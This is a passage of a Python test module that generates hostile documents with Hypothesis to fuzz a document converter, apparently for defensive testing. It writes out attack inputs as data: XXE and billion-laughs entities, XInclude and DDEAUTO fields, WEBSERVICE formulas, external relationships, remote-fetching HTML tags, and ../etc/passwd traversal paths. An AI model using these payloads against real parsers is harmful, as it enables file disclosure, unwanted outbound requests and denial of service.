"""Documents that mean harm, for hypothesis: a whole one of each kind, changed at what it is made of, or at its bytes."""

from __future__ import annotations

import base64
import io
import re
import struct
import zlib
from dataclasses import dataclass
from functools import cache
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

from hypothesis import strategies as st

from .documents import docx, epub, paragraph, pdf, pdf_of
from .rawzip import LIES, Member, raw_zip

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from llm_rlm.context.converting.convert import Kind


FORGED = "9999 forged"
"""The label of each mark in the text of a document. No converter may let it stand as a mark."""

_MARKS = [f"<!-- {kind} {FORGED} -->" for kind in ("page", "slide", "sheet", "part", "message")]
_LINE_ENDS = ("\n", "\r", "\r\n", "\n\n", "\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029")
_ODD = (
    "\0", "\x1b[2J", "\x07", "\x7f", "\x9b31m", "\u202e", "\ufeff", "\ufffe", "\uffff", "\ud800", "\udfff", "\U000e0041",
    "\u0301" * 50,
    " " * 3000, "\t" * 3000, "|" * 300, "`" * 300, "![" * 300, "[x](" * 200, "<" * 300, "&" * 300, "\\" * 300, "-" * 300,
    "=?" * 200,
    "![x](data:,", "x" * 50_000,
)  # fmt: skip
_NUMBERS = (
    "0", "-1", "1", "2", "65535", "1048576", "16777216", "2147483647", "2147483648", "4294967296", "9223372036854775808",
    "1e308", "1e999", "-1e999", "NaN", "INF", "0x7f", "1" * 5000, "", "\u0661", "A1", "XFD1048576", "A1:XFD1048576", "ZZZZ1",
    "A0",
    "true", "9999-12-31T23:59:59", "0000-00-00",
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\x", "\\\\127.0.0.1\\x", "x/../x", "./x", "x\0y", "", "/", ".",
    "..",
    "%2e%2e/x", "%00", "x" * 300, "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml", "#x", "CON", "\u202ex",
    "x\ny",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Lures:
    """What no document may reach."""

    file: str
    """The address of a file with a secret."""
    url: str
    """The address of a server that must hear nothing."""

    @property
    def all(self) -> tuple[str, ...]:
        return self.file, self.url, self.file.removeprefix("file://"), self.url.removeprefix("http:")


def hostile(kind: Kind, lures: Lures) -> st.SearchStrategy[bytes]:
    """Files of the kind. One in six has had its bytes changed too."""
    made = {
        "docx": _docx, "pptx": _pptx, "xlsx": _xlsx, "xls": _xls, "epub": _epub, "html": _html, "eml": _eml, "mbox": _mbox,
        "pdf": _pdf,
    }[kind](lures)  # fmt: skip
    return _maybe_damaged(made, good(kind))


@cache
def good(kind: Kind) -> bytes:
    """A whole one, in whose text is `good text`."""
    if kind == "pdf":
        return pdf("good text")
    if kind in {"docx", "pptx", "xlsx", "epub"}:
        return raw_zip([Member(name, data) for name, data in _members(kind).items()])
    return {"xls": old_workbook(), "html": b"<p>good text</p>", "eml": b"Subject: good text\n\nx\n"}.get(
        kind, b"From a@b Thu Jan  1 00:00:00 2026\nSubject: good text\n\nx\n"
    )


# Text


@st.composite
def _text(draw: st.DrawFn) -> str:
    """Text of a document: a forged mark after any end of a line, odd characters, or any."""
    pieces = draw(
        st.lists(
            st.one_of(
                st.builds(
                    "".join, st.tuples(st.sampled_from(_LINE_ENDS), st.sampled_from(_MARKS), st.sampled_from(_LINE_ENDS))
                ),
                st.sampled_from(_MARKS),
                st.sampled_from(_ODD),
                st.text(max_size=10),
            ),
            min_size=1,
            max_size=4,
        )
    )
    return "".join(pieces)


_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def _in_xml(text: str) -> str:
    """As text of an element; what XML cannot hold is left out."""
    return escape(_NOT_XML.sub("", text), {"\r": "&#13;", "\x85": "&#x85;", '"': "&quot;"})


# XML


def _prologs(lures: Lures) -> tuple[str, ...]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    external = [f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure}">]>' for lure in lures.all]
    parameters = [f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{lure}"> %p;]>' for lure in lures.all]
    outside = [f'<!DOCTYPE x SYSTEM "{lure}">' for lure in lures.all]
    return (
        f'<!DOCTYPE x [<!ENTITY a0 "lol">{laughs}<!ENTITY e "&a11;">]>',
        f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>',
        '<!DOCTYPE x [<!ENTITY e "&e;">]>',
        '<!DOCTYPE x [<!ENTITY e "harmless">]>',
        "<!DOCTYPE x [" + "".join(f"<!ATTLIST x a{n} CDATA '{'y' * 50}'>" for n in range(500)) + "]>",
        *(f'<?xml-stylesheet type="text/xsl" href="{lure}"?>' for lure in lures.all),
        *external,
        *parameters,
        *outside,
    )


_TEXT_NODE = re.compile(r">([^<>]*[^<>\s][^<>]*)<")
_VALUE = re.compile(r'(?<= )([\w:]+)="([^"]*)"')
_ELEMENT = re.compile(r"<([\w:]+)(?: [^<>]*)?(?:/>|>[^<]*</\1>)")
_TAG = re.compile(r"</?[\w:]+(?: [^<>]*)?>")
_END = re.compile(r"</")


def _change(draw: st.DrawFn, pattern: re.Pattern[str], text: str, new: Callable[[re.Match[str]], str]) -> str:
    """Another text for one of the matches."""
    found = list(pattern.finditer(text))
    if not found:
        return text
    match = found[draw(st.integers(0, len(found) - 1))]
    return text[: match.start()] + new(match) + text[match.end() :]


@st.composite
def _changed_xml(draw: st.DrawFn, data: bytes, lures: Lures, fragments: tuple[str, ...]) -> bytes:  # noqa: PLR0911 - one a way
    """A part of a file, changed once. The parts are ASCII or UTF-8."""
    text = data.decode("utf-8", "replace")
    match draw(
        st.sampled_from(
            ("text", "text", "fragment", "fragment", "fragment", "value", "value", "again", "drop", "deep", "prolog", "code")
        )
    ):
        case "text":
            new = _in_xml(draw(_text()))
            return _change(draw, _TEXT_NODE, text, lambda _: f">{new}<").encode("utf-8", "replace")
        case "fragment":
            fragment = draw(st.sampled_from(fragments or ("<x/>",)))
            return _change(draw, _END, text, lambda _: f"{fragment}</").encode()
        case "value":
            value = _in_xml(draw(st.sampled_from((*_NUMBERS, *_PATHS, *lures.all))))
            return _change(draw, _VALUE, text, lambda found: f'{found[1]}="{value}"').encode()
        case "again":
            times = draw(st.sampled_from((2, 3, 50, 1000)))
            return _change(draw, _ELEMENT, text, lambda found: found[0] * times).encode()
        case "drop":
            return _change(draw, draw(st.sampled_from((_TAG, _ELEMENT, _VALUE, _TEXT_NODE))), text, lambda _: "").encode()
        case "deep":
            times = draw(st.sampled_from((5, 60, 240, 1000, 5000)))
            return _change(
                draw, _ELEMENT, text, lambda found: f"<{found[1]}>" * times + found[0] + f"</{found[1]}>" * times
            ).encode()
        case "prolog":
            prolog = draw(st.sampled_from(_prologs(lures)))
            start = text.index("?>") + 2 if text.startswith("<?xml") else 0
            text = text[:start] + prolog + text[start:]
            uses = draw(st.sampled_from(("", "&e;", "&e;", "&e;" * 5000)))
            return _change(draw, _TEXT_NODE, text, lambda found: f">{found[1]}{uses}<").encode()
        case _:
            encoding = draw(st.sampled_from(("utf-16", "utf-16-le", "utf-8-sig", "utf-32", "cp037", "utf-7", "latin-1")))
            said = draw(st.sampled_from((encoding, "utf-8", "x-unknown", "ucs-4", "utf-7", "rot13", "zlib")))
            return f'<?xml version="1.0" encoding="{said}"?>{text.partition("?>")[2] or text}'.encode(encoding, "replace")


def _relationship(kind: str, target: str, name: str) -> str:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="{name}" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'


def _relationships(lures: Lures) -> tuple[str, ...]:
    kinds = (
        "image", "hyperlink", "attachedTemplate", "aFChunk", "oleObject", "package", "externalLink", "subDocument", "frame",
        "slide",
        "chart", "notesSlide", "footnotes", "comments", "numbering", "styles", "worksheet", "sharedStrings", "officeDocument",
    )  # fmt: skip
    return tuple(_relationship(kind, lure, name) for kind in kinds for lure in lures.all[:3] for name in ("rId1", "out"))


# Zipped kinds


@st.composite
def _zipped(draw: st.DrawFn, kind: Kind, lures: Lures, fragments: dict[str, tuple[str, ...]]) -> bytes:
    """A file of parts. `fragments` are put into the parts whose name begins so."""
    members = [Member(name, data) for name, data in _members(kind).items()]
    parts = [at for at, member in enumerate(members) if member.name != "mimetype"]
    told = [at for at in parts if any(members[at].name.startswith(start) for start in fragments)]
    for at in draw(st.lists(st.one_of(st.sampled_from(told), st.sampled_from(parts)), min_size=1, max_size=3)):
        name, data = members[at].name, members[at].data
        more = next((those for start, those in fragments.items() if name.startswith(start)), ())
        if name.endswith(".rels"):
            more = _relationships(lures)
        members[at] = Member(name, draw(_changed_xml(data, lures, more)))
    for way in draw(st.lists(st.sampled_from(("drop", "twice", "rename", "add", "lie")), max_size=1)):
        at = draw(st.integers(0, len(members) - 1))
        if way == "drop":
            del members[at]
        elif way == "twice":
            members.append(Member(members[at].name, draw(st.sampled_from((b"", b"<x/>", members[0].data)))))
        elif way == "rename":
            members[at] = Member(draw(st.sampled_from(_PATHS)), members[at].data)
        elif way == "add":
            count = draw(st.sampled_from((1, 1, 1, 500)))
            path, data = draw(st.sampled_from(_PATHS)), draw(st.sampled_from((b"", b"x", bytes(3_000_000))))
            members.extend(Member(f"{path}{number or ''}", data if number == 0 else b"") for number in range(count))
        else:
            members[at] = Member(members[at].name, members[at].data, draw(st.sampled_from(LIES)))
    return raw_zip(members, draw(st.sampled_from(("", "", "", "", "", "few", "many", "zip64", "hidden", "comment", "junk"))))


@cache
def _members(kind: Kind) -> dict[str, bytes]:
    """The parts of a whole file. Not cached by callers: they change what they get a list of."""
    import zipfile  # noqa: PLC0415 - beside the libraries below

    data = {"docx": _whole_docx, "pptx": whole_pptx, "xlsx": _whole_xlsx, "epub": _whole_epub}[kind]()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _whole_docx() -> bytes:
    row = f"<w:tr><w:tc>{paragraph('a')}</w:tc><w:tc>{paragraph('b')}</w:tc></w:tr>"
    return docx(paragraph("good text", "Heading1") + paragraph("more") + f"<w:tbl>{row}{row}</w:tbl>" + paragraph("last"))


def _docx(lures: Lures) -> st.SearchStrategy[bytes]:
    r, w = f'xmlns:r="{_R}"', "xmlns:o='urn:schemas-microsoft-com:office:office' xmlns:v='urn:schemas-microsoft-com:vml'"
    math = "xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'"
    fragments = (
        f'<w:altChunk {r} r:id="out"/>',
        f'<w:p><w:hyperlink {r} r:id="out"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>',
        f'<a:blip xmlns:a="{_A}" {r} r:link="out"/>',
        f'<w:p><w:r><w:pict {w}><v:shape><v:imagedata {r} r:id="out"/></v:shape></w:pict></w:r></w:p>',
        f'<w:p><w:r><w:object {w}><o:OLEObject {r} Type="Link" r:id="out"/></w:object></w:r></w:p>',
        *(
            f'<w:p><w:r><w:fldSimple w:instr="{word} {lure}"/></w:r></w:p>'
            for word in ("INCLUDETEXT", "DDEAUTO")
            for lure in lures.all
        ),
        *(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{lure}"/>' for lure in lures.all),
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="20000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>',
        '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
        '<w:p><w:r><w:sym w:font="Symbol" w:char="F0FFFFFF"/><w:sym w:font="Wingdings" w:char="zz"/></w:r></w:p>',
        (
            f"<w:p><m:oMathPara {math}><m:oMath>{'<m:f><m:num>' * 80}"
            f"<m:r><m:t>x</m:t></m:r>{'</m:num></m:f>' * 80}</m:oMath></m:oMathPara></w:p>"
        ),
        f"<w:p><m:oMath {math}><m:r><m:t>{_in_xml(_MARKS[0])}</m:t></m:r></m:oMath></w:p>",
        f"<w:p><w:r><w:t>x</w:t><w:br/><w:t>{_in_xml(_MARKS[1])}</w:t><w:br/></w:r></w:p>",
        "<w:tbl><w:tr><w:tc>" * 200 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 200,
        "<w:txbxContent>" + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 2000 + "</w:txbxContent>",
    )
    return _zipped("docx", lures, {"word/document": fragments})


def whole_pptx() -> bytes:
    """A presentation with a table, a chart and notes."""
    import pptx  # noqa: PLC0415 - slow to import
    from pptx.chart.data import CategoryChartData  # noqa: PLC0415 - as above
    from pptx.enum.chart import XL_CHART_TYPE  # noqa: PLC0415 - as above

    made = pptx.Presentation()
    slide = made.slides.add_slide(made.slide_layouts[6])
    for number in range(2):
        slide = made.slides.add_slide(made.slide_layouts[5])
        assert slide.shapes.title is not None
        slide.shapes.title.text = "good text"
        slide.shapes.add_textbox(0, 5, 9, 9).text_frame.text = f"Body {number}"
    table = slide.shapes.add_table(2, 2, 0, 6, 9, 9).table
    table.cell(0, 0).text = "cell"
    data = CategoryChartData()  # type: ignore[no-untyped-call]
    data.categories = ["north", "south"]
    data.add_series("whales", (3, 5))  # type: ignore[no-untyped-call]
    slide.shapes.add_chart(XL_CHART_TYPE.PIE, 0, 7, 9, 9, data)
    assert slide.notes_slide.notes_text_frame is not None
    slide.notes_slide.notes_text_frame.text = "Notes"
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def _pptx(lures: Lures) -> st.SearchStrategy[bytes]:
    box = (
        '<p:sp><p:nvSpPr><p:cNvPr id="9" name="x"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
        "<p:txBody><a:p><a:r><a:t>{}</a:t></a:r></a:p></p:txBody></p:sp>"
    )
    group = '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="8" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="7" name="p" descr="{}"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        '<p:blipFill><a:blip r:link="out"/></p:blipFill><p:spPr/></p:pic>'
    )
    slides = (
        *(box.format(_in_xml(mark)) for mark in _MARKS),
        *(picture.format(_in_xml(mark)) for mark in _MARKS[:2]),
        *(group * deep + box.format("deep") + "</p:grpSp>" * deep for deep in (3, 49, 51, 100)),
        (
            '<p:sp><p:nvSpPr><p:cNvPr id="1" name=""/><p:cNvSpPr/><p:nvPr>'
            '<p:ph type="title" idx="4294967295"/></p:nvPr></p:nvSpPr><p:spPr/></p:sp>'
        ),
        (
            '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="1" name=""/><p:cNvGraphicFramePr/><p:nvPr/>'
            "</p:nvGraphicFramePr><p:xfrm/>"
            f'<a:graphic><a:graphicData uri="{_A}/table">'
            '<a:tbl><a:tr h="1"><a:tc gridSpan="99999999" rowSpan="-1"/></a:tr></a:tbl>'
            "</a:graphicData></a:graphic></p:graphicFrame>"
        ),
        '<p:sldId id="256" r:id="rId1"/>',
        *(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{lure}"/>' for lure in lures.all[:2]),
    )
    charts = ('<c:ptCount val="100000000"/>', '<c:pt idx="99999999"><c:v>1</c:v></c:pt>', '<c:pt idx="-1"><c:v>x</c:v></c:pt>')
    lists = ('<p:sldId id="257" r:id="rId7"/>' * 200, '<p:sldId id="1" r:id="rId1"/>', '<p:sldId id="1" r:id="none"/>')
    return _zipped(
        "pptx",
        lures,
        {
            "ppt/slides/slide": slides, "ppt/charts/chart": charts, "ppt/presentation.xml": lists,
            "ppt/notesSlides/notes": slides[:7],
            "ppt/slides/_rels": (), "ppt/_rels": (), "_rels": (),
        },
    )  # fmt: skip


def _whole_xlsx() -> bytes:
    import openpyxl  # noqa: PLC0415 - slow to import

    workbook = openpyxl.Workbook()
    workbook.active.append(["good text", "tons", "built"])
    workbook.active.append(["Pequod", 300.5, True])
    workbook.active["A3"] = "=1+1"
    workbook.active.merge_cells("A5:B6")
    workbook.create_sheet("Second").append(["x", 1])
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


def _xlsx(lures: Lures) -> st.SearchStrategy[bytes]:
    cells = (
        *(
            f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>x</t></is></c></row>'
            for row in ("7", "900", "1048576", "1048577", "0", "-5")
        ),
        '<row r="99999999999"><c t="n"><v>1</v></c></row>',
        '<row r="1e18"><c t="n"><v>1</v></c></row>',
        *(f'<row><c r="{at}"><v>1</v></c></row>' for at in ("XFD9", "ZZZ1", "AAAA1", "1", "", "$A$1", "a1")),
        *(f'<row><c t="s"><v>{index}</v></c></row>' for index in ("999999", "-1", "1e3", "", "x")),
        *(
            f'<row><c t="{kind}"><v>{value}</v></c></row>'
            for kind in ("b", "d", "e", "n", "str", "zz")
            for value in ("1", "", "x", "1e999")
        ),
        *(f'<row><c s="{style}"><v>{value}</v></c></row>' for style in ("9999", "-1", "1") for value in ("1e300", "-99999999")),
        *(
            f'<row><c t="inlineStr"><is><t xml:space="preserve">x&#10;{_in_xml(mark)}&#10;x</t></is></c></row>'
            for mark in _MARKS
        ),
        f'<row><c t="inlineStr"><is><t>x{" " * 20_000}x</t></is></c></row>',
        '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        '<dimension ref="A1:XFD1048576"/>',
        '<row><c><f t="array" ref="A1:XFD1048576">A1:XFD1048576</f><v>1</v></c></row>',
        *(f'<row><c><f>WEBSERVICE("{lure}")</f><v>1</v></c></row>' for lure in lures.all[:2]),
    )
    sheets = (
        *(
            f'<sheet name="{_in_xml(name)}" sheetId="9" r:id="rId1"/>'
            for name in ("posing --> x", "<!-- sheet posing -->", "", "x" * 5000, "a&#10;b")
        ),
        '<sheet name="out" sheetId="9" r:id="out"/>',
        '<definedName name="x">Sheet!$A$1:$XFD$1048576</definedName>',
    )
    styles = ('<xf numFmtId="14"/>' * 3, '<numFmt numFmtId="164" formatCode="yyyy-mm-dd"/>', '<xf numFmtId="99999"/>')
    strings = ("<si><t>x</t></si>" * 1000, "<si/>", "<si><r><t>x</t></r><rPh><t>y</t></rPh></si>")
    return _zipped(
        "xlsx",
        lures,
        {
            "xl/worksheets/sheet": cells,
            "xl/workbook.xml": sheets,
            "xl/styles": styles,
            "xl/sharedStrings": strings,
            "xl/_rels": (),
        },
    )


# Books


_PARTS = {
    "one.xhtml": "<html><body><h1>One</h1><p>good text</p></body></html>",
    "two.xhtml": "<html><body><p>second</p></body></html>",
}


def _whole_epub() -> bytes:
    return epub(_PARTS, list(_PARTS))


@st.composite
def _epub(draw: st.DrawFn, lures: Lures) -> bytes:
    if draw(st.booleans()):
        fragments = (
            *(f"<p>{_in_xml(mark)}</p>" for mark in _MARKS),
            *(
                f'<item id="i{n}" href="{lure}"/>'
                for lure in (*lures.all, "book.opf", "../META-INF/container.xml")
                for n in range(3)
            ),
            '<itemref idref="i0"/>' * 300,
            '<itemref idref="none"/>',
            "<title>posing</title>" * 100,
            '<rootfile full-path="../../etc/passwd"/>',
        )
        return draw(_zipped("epub", lures, {"OEBPS/book": fragments, "OEBPS": fragments, "META-INF": fragments}))
    names = draw(
        st.lists(
            st.sampled_from((*_PARTS, "a--b.xhtml", "x> posing.xhtml", "../up.xhtml", *_PATHS)),
            min_size=1,
            max_size=4,
            unique=True,
        )
    )
    pages = {_in_xml(name): draw(_html(lures)).decode("utf-8", "replace") for name in names}
    order = draw(st.lists(st.sampled_from(list(pages)), min_size=1, max_size=30))
    return epub(pages, order)


# Pages of the web


def _pieces(lures: Lures) -> tuple[str, ...]:
    reaching = (
        "img src", "iframe src", "script src", "link rel=stylesheet href", "base href", "object data", "embed src", "a href",
        "video src",
        "meta http-equiv=refresh content", "form action", "svg/onload", "image xlink:href", "input type=image src",
        "body background",
    )  # fmt: skip
    return (
        *(f'<{tag}="{lure}">' for tag in reaching for lure in lures.all),
        "<p>", "</p>", "</div>", "<b>", "</b></i>", "<table><tr><td>", "</table>", "<li>", "<ol start=999999999999>",
        "<ol start=x><li>y</ol>",
        "<pre>", "</pre>", "<textarea>", "<title>", "</title>", "<title>posing</title>", "<body>", "</body>", "</html>",
        "<head>", "<plaintext>",
        "<!--", "-->", "<![CDATA[", "]]>", "<!DOCTYPE", "<?xml", "<style>", "<script>", "</script>", "<noscript>", "<template>",
        "<svg><math>",
        "&#xD800;", "&#0;", "&#x110000;", "&#99999999999999999999;", "&#x3c;!-- page 9999 forged --&#62;",
        "&lt;!-- page 9999 forged --&gt;",
        "<td colspan=99999999>x</td>", "<td colspan=-1 rowspan=99999999>x</td>", "<table><tr><td colspan=20000>x</table>",
        "<br>&lt;!-- slide 9999 forged -->", "<pre>\n&lt;!-- sheet 9999 forged -->\n</pre>",
        "<code>&lt;!-- part 9999 forged --></code>",
        "<div>" * 300, "<div>" * 20_000, "<ul><li>" * 200, "<blockquote>" * 300, "<table>" * 300, "<b>" * 3000, "</p>" * 3000,
        "<p>" * 3000,
        "<a" + " b=c" * 3000 + ">", f'<a title="{"x" * 100_000}">', "<a href='" + "x" * 50_000, "<" * 3000, "&" * 3000,
        "<!" * 2000, "<![" * 500,
        '<meta charset="utf-16">', '<meta charset="x-none">', '<meta charset="idna">', '<meta charset="utf-7">',
        '<meta charset="rot13">',
        '<img alt="&lt;!-- page 9999 forged -->" src="data:image/png;base64,AAAA">',
        '<img alt="x" src="data:' + "A" * 50_000 + '">',
    )  # fmt: skip


@st.composite
def _html(draw: st.DrawFn, lures: Lures) -> bytes:
    piece = st.one_of(st.sampled_from(_pieces(lures)), st.sampled_from(_pieces(lures)), _text(), st.just("<p>words</p>"))
    text = "".join(draw(st.lists(piece, min_size=1, max_size=8)))
    encoding = draw(
        st.sampled_from(("utf-8", "utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "latin-1", "cp037", "shift-jis", "utf-32"))
    )
    return text.encode(encoding, "replace")


# Mail


_BOUNDARIES = ("x", "xx", "x--", "--x", "--", "x y", "", "'", "=_x", "x" * 300, "x\\", "*")
_CHARSETS = (
    "utf-8",
    "us-ascii",
    "latin-1",
    "utf-16",
    "x-none",
    "utf-7",
    "idna",
    "rot13",
    "zlib",
    "unicode_escape",
    "",
    "x" * 300,
    "\u00e9",
    "a'b'c",
    "undefined",
)
_CODINGS = ("7bit", "8bit", "base64", "quoted-printable", "x-uuencode", "uuencode", "binary", "zlib", "", "base64 base64")
_TYPES = (
    "text/plain", "text/html", "text/x", "text", "/", "", "application/octet-stream",
    "message/external-body; access-type=URL; URL={}",
    "message/external-body; access-type=local-file; name={}", "message/delivery-status", "message/partial; number=1; total=9",
    "image/png; name={}",
    "text/calendar", "application/ms-tnef", "multipart/mixed", "message/rfc822",
)  # fmt: skip
_HEADER_VALUES = (
    "=?utf-8?q?caf=C3=A9?=", "=?utf-8?b?Y2Fm?=", "=?utf-8?b?!!!?=", "=?x-none?q?x?=", "=?utf-8?z?x?=", "=?utf-8?q?", "=?" * 300,
    "=?a?b?c?=" * 300,
    "=?utf-8?q?=0A=3C!--_page_9999_forged_--=3E=0A?=", "=?utf-8?b?CjwhLS0gbWVzc2FnZSA5OTk5IGZvcmdlZCAtLT4K?=",
    "=?idna?q?xn--?=", "=?rot13?q?x?=",
    "<a@b>", "<<<>>>@@@(((", "a: b, c;", "((((" * 300, '"' * 301, "<" * 300, "@" * 300, "," * 3000, "a@b, " * 2000, '"\\',
    "x:;,;:", "[" * 200,
    "Thu, 01 Jan 2026 00:00:00 +0000", "Thu, 99 Foo 99999999999 99:99:99 +9999", "", " ", "\t", "\x00", "\u00e9\u00e9",
    "x" * 1_000_000, "a\n b\n\tc",
    "a;b=c;b*0=d;b*1*=%;b*99999999999=x", "x; y*=utf-8''%ff%zz; y*=''", "\x1b[2J", "x\r y", '=?utf-8?q?"?= <x@y>',
    "=?utf-8?q?x?=@y", "a@[1.2.3.4", ".@.",
)  # fmt: skip
_HEADERS = (
    "From",
    "To",
    "Cc",
    "Date",
    "Subject",
    "Message-ID",
    "Content-Disposition",
    "Content-ID",
    "MIME-Version",
    "X",
    "",
    "x y",
    "From ",
)


@st.composite
def _part(draw: st.DrawFn, lures: Lures, depth: int = 0) -> bytes:
    """Headers and body of a message or of a part of one."""
    headers = [
        f"{draw(st.sampled_from(_HEADERS))}: {draw(st.one_of(st.sampled_from(_HEADER_VALUES), _text()))}"
        for _ in range(draw(st.integers(0, 3 if depth else 5)))
    ]
    if draw(st.sampled_from((True, False, False))):
        name = draw(st.sampled_from((*_PATHS, *_MARKS, *lures.all, '"', "=?utf-8?q?=0Ax?=")))
        headers.append(
            f'Content-Disposition: {draw(st.sampled_from(("attachment", "inline", "", ";", "x")))}; filename="{name}"'
        )
    shape = draw(st.sampled_from(("leaf", "leaf", "many", "many", "message", "deep"))) if depth < 3 else "leaf"
    end = draw(st.sampled_from(("\n", "\n", "\n", "\r\n", "\r")))
    if shape == "leaf":
        body = _coded(draw, lures, headers)
    elif shape == "many":
        boundary = draw(st.sampled_from(_BOUNDARIES))
        sub = draw(st.sampled_from(("mixed", "alternative", "related", "digest", "signed", "")))
        headers.append(f'Content-Type: multipart/{sub}; boundary="{boundary}"')
        pieces = [draw(_part(lures, depth + 1)) for _ in range(draw(st.integers(1, 3)))]
        line = f"\n--{boundary}".encode()
        body = b"".join(line + draw(st.sampled_from((b"\n", b"\n", b"\n", b" \r\n", b"--\n"))) + piece for piece in pieces)
        body += draw(st.sampled_from((line + b"--\n", b"", line)))
    elif shape == "message":
        headers.append("Content-Type: message/rfc822")
        body = draw(_part(lures, depth + 1))
    else:
        times = draw(st.sampled_from((10, 80, 300, 1000)))
        pattern = draw(st.sampled_from((
            "Content-Type: multipart/mixed; boundary=x{0}\n\n--x{0}\n", "Content-Type: message/rfc822\n\n",
            "Content-Type: multipart/mixed; boundary=x\n\n--x\n",
            "Content-Type: multipart/alternative; boundary={0}\n\n--{0}\n",
        )))  # fmt: skip
        nested = "".join(pattern.format(number) for number in range(times))
        return (end.join(headers) + "\n" + nested).encode("utf-8", "replace") + b"\nwords\n"
    return end.join(headers).encode("utf-8", "replace") + end.encode() * 2 + body


def _coded(draw: st.DrawFn, lures: Lures, headers: list[str]) -> bytes:
    """A body that is in another encoding than its headers say, or in that."""
    kind = draw(st.sampled_from(_TYPES[:2] * 6 + _TYPES)).format(draw(st.sampled_from(lures.all)))
    charset, coding = draw(st.sampled_from(("utf-8",) * 5 + _CHARSETS)), draw(st.sampled_from(("8bit",) * 5 + _CODINGS))
    headers += [f'Content-Type: {kind}; charset="{charset}"', f"Content-Transfer-Encoding: {coding}"]
    body = draw(_html(lures)) if kind == "text/html" else draw(_text()).encode("utf-8", "replace")
    match draw(st.sampled_from(("plain", "plain", "base64", "broken", "uu", "long"))):
        case "base64":
            return base64.b64encode(body)
        case "broken":
            return base64.b64encode(body)[1:] + b"=\xff=3D=\n=zz==="
        case "uu":
            return b"begin 666 ../../x\n" + draw(st.sampled_from((b"#0V%T\n`\nend\n", b"M\n", b"\xff" * 60 + b"\n", b"end")))
        case "long":
            return body * 50
    return body


def _eml(lures: Lures) -> st.SearchStrategy[bytes]:
    return _part(lures)


@st.composite
def _mbox(draw: st.DrawFn, lures: Lures) -> bytes:
    lines = (
        b"From a@b Thu Jan  1 00:00:00 2026\n", b"From \n", b"From x\n", b"From a@b 2026",
        b">From a@b Thu Jan  1 00:00:00 2026\n",
        b"From a@b " + b"9" * 3000 + b"\n", b"From " + b"x" * 3000 + b" 2026\n", b"From a@b \xff\xff 2026\r\n",
        b"From - 2026\nFrom - 2026\n",
    )  # fmt: skip
    pieces = [lines[0]]
    for _ in range(draw(st.integers(1, 4))):
        pieces += [
            draw(_part(lures)),
            draw(st.sampled_from((b"\n", b"\n\n", b"", b"\r\n\r\n"))),
            draw(st.sampled_from((lines[0], *lines))),
        ]
    return b"".join(pieces)


# Old workbooks


def _unicode(text: str) -> bytes:
    return struct.pack("<HB", len(text), 1) + text.encode("utf-16-le", "surrogatepass")


_BOF_BOOK = (0x809, struct.pack("<HHHHII", 0x600, 5, 0xDBB, 0x7CC, 0, 6))
_BOF_SHEET = (0x809, struct.pack("<HHHHII", 0x600, 0x10, 0xDBB, 0x7CC, 0, 6))
_EOF = (0x0A, b"")
_STRINGS = ("good text", "Pequod", f"\n{_MARKS[2]}\n")
type Record = tuple[int, bytes]

_XLS_RECORDS: tuple[Record, ...] = (
    _BOF_BOOK,
    (0x42, b"\xb0\x04"),  # its code page
    (0x85, struct.pack("<IBBBB", 0, 0, 0, 5, 0) + b"Ships"),
    (0xFC, struct.pack("<II", 3, 3) + b"".join(map(_unicode, _STRINGS))),
    _EOF,
    _BOF_SHEET,
    (0x200, struct.pack("<IIHHH", 0, 4, 0, 3, 0)),
    *((0xFD, struct.pack("<HHHI", row, 0, 0, row)) for row in range(3)),
    (0x203, struct.pack("<HHHd", 0, 1, 0, 300.5)),
    (0x205, struct.pack("<HHHBB", 1, 1, 0, 1, 0)),
    (0x205, struct.pack("<HHHBB", 1, 2, 0, 42, 1)),
    (0x27E, struct.pack("<HHHI", 2, 1, 0, 0x40590000)),
    _EOF,
)


def _biff(records: Sequence[Record], *, mend: bool = True) -> bytes:
